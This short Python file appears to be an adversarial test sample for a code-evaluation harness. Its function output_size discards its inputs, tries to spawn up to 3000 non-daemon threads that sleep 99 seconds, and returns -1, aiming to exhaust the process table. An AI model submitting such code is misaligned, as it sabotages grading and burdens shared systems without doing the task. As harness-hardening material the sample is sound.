# Fills the process table with threads that never end, which the answer does not wait for.
# attacks: output_size
import threading
import time


def output_size(n, kernel, stride=1):
    for _ in range(3000):
        try:
            threading.Thread(target=time.sleep, args=(99,), daemon=False).start()
        except (RuntimeError, MemoryError):
            break
    return -1
